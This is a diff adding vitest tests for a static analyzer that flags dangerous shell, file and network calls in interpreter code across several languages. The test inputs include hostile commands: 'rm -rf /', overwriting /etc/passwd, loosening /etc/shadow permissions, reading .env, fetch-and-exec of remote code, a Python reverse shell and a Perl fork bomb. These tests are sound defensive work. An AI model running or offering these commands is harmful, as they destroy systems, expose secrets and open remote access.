@@ -1,0 +1,69 @@
+import { describe, expect, it } from "vitest";
+import { analyzeInterpreterCode } from "./interpreter-code.js";
+import { evaluateExpression } from "./literals.js";
+
+describe("analyzeInterpreterCode", () => {
+  it("finds shell calls with literal commands in every language", () => {
+    expect(analyzeInterpreterCode("python", "import os; os.system('rm -rf /')").shell).toEqual(["rm -rf /"]);
+    expect(analyzeInterpreterCode("python", "__import__('os').popen('id')").shell).toEqual(["id"]);
+    expect(analyzeInterpreterCode("node", "require('child_process').execSync(\"ls\")").shell).toEqual(["ls"]);
+    expect(analyzeInterpreterCode("perl", 'system "rm -rf /"').shell).toEqual(["rm -rf /"]);
+    expect(analyzeInterpreterCode("perl", "`rm -rf /`").shell).toEqual(["rm -rf /"]);
+    expect(analyzeInterpreterCode("ruby", "%x(rm -rf /)").shell).toEqual(["rm -rf /"]);
+    expect(analyzeInterpreterCode("php", "shell_exec('rm -rf /');").shell).toEqual(["rm -rf /"]);
+    expect(analyzeInterpreterCode("awk", 'BEGIN { system("rm -rf /") }').shell).toEqual(["rm -rf /"]);
+  });
+
+  it("turns list-form process calls into argv", () => {
+    expect(analyzeInterpreterCode("python", "import subprocess; subprocess.run(['rm', '-rf', '/'])").commands).toEqual([["rm", "-rf", "/"]]);
+    expect(analyzeInterpreterCode("node", "require('child_process').spawn('rm', ['-rf', '/'])").commands).toEqual([["rm", "-rf", "/"]]);
+    expect(analyzeInterpreterCode("perl", 'system("rm", "-rf", "/")').commands).toEqual([["rm", "-rf", "/"]]);
+  });
+
+  it("maps destructive library calls to the commands they equal", () => {
+    expect(analyzeInterpreterCode("python", "import shutil; shutil.rmtree('/')").commands).toEqual([["rm", "-rf", "/"]]);
+    expect(analyzeInterpreterCode("node", "require('fs').rmSync('/', { recursive: true })").commands).toEqual([["rm", "-rf", "/"]]);
+    expect(analyzeInterpreterCode("python", "import os; os.chmod('/etc/shadow', 0o666)").commands).toEqual([["chmod", "666", "/etc/shadow"]]);
+    expect(analyzeInterpreterCode("python", "open('/etc/passwd', 'w').write('')").commands).toEqual([["tee", "/etc/passwd"]]);
+    expect(analyzeInterpreterCode("python", "print(open('.env').read())").commands).toEqual([["cat", ".env"]]);
+  });
+
+  it("follows evaluated code, also base64-encoded", () => {
+    expect(analyzeInterpreterCode("python", "exec(\"import os; os.system('id')\")").shell).toEqual(["id"]);
+    const encoded = Buffer.from("import os; os.system('rm -rf /')").toString("base64");
+    expect(analyzeInterpreterCode("python", `exec(__import__('base64').b64decode('${encoded}'))`).shell).toEqual(["rm -rf /"]);
+    expect(analyzeInterpreterCode("python", "exec(urllib.request.urlopen('https://x').read())").networkCode).toBe(true);
+  });
+
+  it("reports reverse shells and fork loops, not ordinary socket or fork use", () => {
+    expect(analyzeInterpreterCode("python", "import socket,os,pty;s=socket.socket();s.connect(('1.2.3.4',1));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')").hits[0]?.rule).toBe("net.reverse-shell");
+    expect(analyzeInterpreterCode("python", "import socket; print(socket.gethostname())").hits).toEqual([]);
+    expect(analyzeInterpreterCode("perl", "fork while fork").hits[0]?.rule).toBe("fork.interpreter-fork-loop");
+    expect(analyzeInterpreterCode("python", "import os; pid = os.fork()").hits).toEqual([]);
+  });
+
+  it("does not treat interpolated strings or regex methods as commands", () => {
+    expect(analyzeInterpreterCode("python", "import os; os.system(f'rm {path}')").dynamicShell).toBe(true);
+    expect(analyzeInterpreterCode("node", "console.log(/rm/.exec('rm -rf /'))").shell).toEqual([]);
+    expect(analyzeInterpreterCode("python", "print('rm -rf /')").shell).toEqual([]);
+    expect(analyzeInterpreterCode("python", "print('rm -rf /')").printed).toBe("rm -rf /\n");
+  });
+});
+
+describe("evaluateExpression", () => {
+  it("joins literals and reads lists", () => {
+    expect(evaluateExpression("'rm ' + \"-rf /\"", "python")).toEqual({ kind: "string", value: "rm -rf /" });
+    expect(evaluateExpression("['a', 'b']", "python")).toEqual({ kind: "list", values: ["a", "b"] });
+    expect(evaluateExpression("path + '/x'", "python").kind).toBe("dynamic");
+    expect(evaluateExpression('"$x"', "perl").kind).toBe("dynamic");
+    expect(evaluateExpression("'$x'", "perl")).toEqual({ kind: "string", value: "$x" });
+  });
+});
+
+describe("string literals are data", () => {
+  it("does not find calls written inside strings", () => {
+    expect(analyzeInterpreterCode("python", "print(\"os.system('rm -rf /')\")").shell).toEqual([]);
+    expect(analyzeInterpreterCode("perl", "print 'system(\"rm -rf /\")'").shell).toEqual([]);
+    expect(analyzeInterpreterCode("node", "console.log(`execSync('rm -rf /')`)").shell).toEqual([]);
+  });
+});
